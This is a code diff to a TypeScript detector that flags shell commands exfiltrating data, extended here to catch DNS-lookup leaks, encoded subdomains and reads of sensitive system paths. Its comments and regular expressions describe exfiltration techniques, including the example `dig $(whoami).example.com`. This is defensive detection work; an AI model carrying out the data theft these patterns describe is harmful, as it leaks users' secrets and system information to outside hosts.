@@ -18,14 +18,47 @@ export const exfiltration = actionDetector({
   falsePositives: ['uploading the results of a build', 'copying files to a server of one’s own'],
   find({ facts }, found) {
     const { commands } = facts.shell;
+    if (!commands.some(({ name }) => SENDERS.has(name))) return;
+    const around = surroundingsOf(facts);
     for (const [index, command] of commands.entries()) {
       if (!SENDERS.has(command.name)) continue;
-      const carried = carriedBy(command, commands);
-      if (carried === undefined) continue;
-      judge(command, carried, targetsOf(index, facts), found);
+      const carried = carriedBy(command, commands, around);
+      if (carried !== undefined) judge(command, carried, around.hosts.get(index) ?? [], found);
     }
   },
 });
+
+/** What is looked up for each command, gathered once. */
+interface Surroundings {
+  hosts: ReadonlyMap<number, readonly HostFact[]>;
+  /** Commands whose output becomes words of a sender, by its name and where it ends. */
+  inner: ReadonlyMap<string, readonly ShellCommand[]>;
+  encodes: boolean;
+}
+
+/** Commands in substitutions of one name that are looked at for one sender. */
+const INNER_MAX = 64;
+
+function surroundingsOf({ hosts, shell }: EventFacts): Surroundings {
+  const byCommand = new Map<number, HostFact[]>();
+  for (const { command, host } of hosts) if (command !== undefined) addTo(byCommand, command, host);
+  const inner = new Map<string, ShellCommand[]>();
+  for (const command of shell.commands) {
+    const { consumer, name } = command;
+    if (consumer !== undefined && (DUMPS.test(name) || READERS.test(name))) addTo(inner, consumer, command);
+  }
+  return {
+    hosts: byCommand,
+    inner,
+    encodes: shell.commands.some(({ name }) => /^(?:xxd|base64|od|base32)$/.test(name)),
+  };
+}
+
+function addTo<K, V>(lists: Map<K, V[]>, key: K, value: V): void {
+  const list = lists.get(key);
+  if (list === undefined) lists.set(key, [value]);
+  else if (list.length < INNER_MAX) list.push(value);
+}
 
 interface Carried {
   /** What it is, for the person. */
@@ -53,20 +86,26 @@ const DATA_OPTIONS = optionNames(
 );
 
 /** What `command` takes along, or undefined. */
-function carriedBy(command: ShellCommand, commands: readonly ShellCommand[]): Carried | undefined {
+function carriedBy(
+  command: ShellCommand,
+  commands: readonly ShellCommand[],
+  around: Surroundings,
+): Carried | undefined {
   const files = filesSent(command);
   for (const file of files) {
     if (file === '-' || file === '/dev/stdin') continue;
     return { what: `the file ${named(file)}`, sensitive: isSensitive(file) };
   }
-  const inner = commands.find(
-    (other) =>
-      other.consumer === command.name && (DUMPS.test(other.name) || READERS.test(other.name)) && near(other, command),
-  );
+  const inner = around.inner.get(command.name)?.find((other) => near(other, command));
   if (inner !== undefined && takesText(command))
     return {
       what: `the output of ${named(inner.name)}`,
       sensitive: sensitiveCommand(inner) || spellsNames(command),
+    };
+  if (spellsNames(command))
+    return {
+      what: 'what it is told',
+      sensitive: around.encodes,
     };
   const fed = sourcesOf(command, commands).find((source) => DUMPS.test(source.name) || READERS.test(source.name));
   if (fed === undefined || !readsInput(command, files)) return undefined;
@@ -79,7 +118,12 @@ function near(inner: ShellCommand, outer: ShellCommand): boolean {
 
 /** `dig $(whoami).example.com`: names of hosts, made of what is to be carried. */
 function spellsNames({ name, args }: ShellCommand): boolean {
-  return /^(?:dig|nslookup|host|ping)$/.test(name) && args.some(({ text }) => /[)`]\.[\w.-]+\.[a-z]{2,}/i.test(text));
+  return (
+    /^(?:dig|nslookup|host|ping)$/.test(name) &&
+    args.some(({ text }) =>
+      /(?:[)`}]|\$\w{1,32})\.[\w.-]+\.[a-z]{2,}|^[a-z0-9+/=_-]{24,63}\.[\w-]+\.[a-z]{2,}/i.test(text),
+    )
+  );
 }
 
 /** Whether words of `command` reach the other machine. */
@@ -113,7 +157,9 @@ function isSensitive(text: string): boolean {
   if (below !== undefined) return PERSONAL.test(below);
   return (
     path.anchor === 'root' &&
-    /^\/(?:$|etc\/|etc$|root|home$|var\/(?:log|lib|mail|spool|backups)|proc\/|private\/etc|users$)/.test(path.key)
+    /^\/(?:$|etc\/|etc$|root|home(?:\/\*)?$|var\/(?:log|lib|mail|spool|backups)|proc\/|private\/etc|users(?:\/\*)?$)/.test(
+      path.key,
+    )
   );
 }
 
@@ -165,10 +211,6 @@ function filesSent(command: ShellCommand): string[] {
     if (at >= 0 && args[at + 1] !== undefined) files.push((args[at + 1] as { text: string }).text);
   }
   return files;
-}
-
-function targetsOf(index: number, facts: EventFacts): HostFact[] {
-  return facts.hosts.filter((access) => access.command === index).map((access) => access.host);
 }
 
 function judge(command: ShellCommand, { what, sensitive }: Carried, hosts: readonly HostFact[], found: Action[]): void {
